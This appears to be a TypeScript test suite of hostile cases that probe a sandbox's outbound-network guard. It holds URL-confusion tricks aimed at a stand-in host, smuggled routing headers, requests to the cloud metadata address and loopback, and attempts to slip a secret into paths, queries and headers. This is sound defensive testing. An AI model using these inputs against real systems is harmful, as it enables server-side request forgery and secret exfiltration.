// Attacks 29 to 35: to reach other servers, this one, and secrets. None of them needs a receiver: what is held is refused before
// anything is sent, and any other answer, also that nobody is there, means that it got past the door.
import type { Hostile } from './case.ts';

const at = 'https://receiver.example';
const net = [{ origin: at, methods: ['POST' as const], path: '/v1/', why: 'an attack of the suite' }];

/** Asks each and finds what is not refused at the door. */
const ask = `const ask = async (...asked) => {
  try { await fetch(...asked); found.push('answered ' + String(asked[0]).slice(0, 60)); }
  catch (error) { if (error.code !== 'egress_denied') found.push(error.code + ' ' + String(asked[0]).slice(0, 60)); }
};`;
const post = `{ method: 'POST', body: 'x' }`;

export const outside: readonly Hostile[] = [
  {
    group: 29,
    name: 'names-beside-the-named',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const url of ['https://receiver.example.evil.example/v1/', 'https://user@receiver.example/v1/', 'https://receiver.example@evil.example/v1/',
        'https://receiver.example:444/v1/', 'http://receiver.example/v1/', 'https://receiver.example/v2/', 'https://receiver.example/v1/../v2/'])
        await ask(url, ${post});
      await ask('${at}/v1/');`,
  },
  {
    group: 32,
    name: 'headers-that-route',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const header of ['host', 'Transfer-Encoding', 'content-length', 'Connection', 'proxy-authorization'])
        await ask('${at}/v1/', { ...${post}, headers: { [header]: 'receiver.example' } });`,
  },
  {
    group: 34,
    name: 'fetch-without-net',
    ends: 'harmless',
    body: `${ask}
      for (const url of ['http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:8080/api/v1/me',
        'http://2130706433/', 'https://receiver.example/'])
        await ask(url);`,
  },
  {
    group: 35,
    name: 'secrets-elsewhere',
    ends: 'harmless',
    manifest: { net, secrets: { ATTACK_KEY: { hosts: [at], header: 'Authorization', format: 'Bearer {}' } } },
    body: `${ask}
      const ref = ctx.secrets.ref('ATTACK_KEY');
      await ask('${at}/v1/' + ref, ${post});
      await ask('${at}/v1/?key=' + ref, ${post});
      await ask('${at}/v1/', { method: 'POST', body: 'key=' + ref });
      await ask('${at}/v1/', { ...${post}, headers: { 'x-key': ref } });
      await ask('${at}/v1/', { ...${post}, headers: { authorization: 'Basic ' + ref } });
      try { if (ctx.secrets.ref('OTHER_KEY')) found.push('a secret that was not declared'); } catch {}`,
  },
];
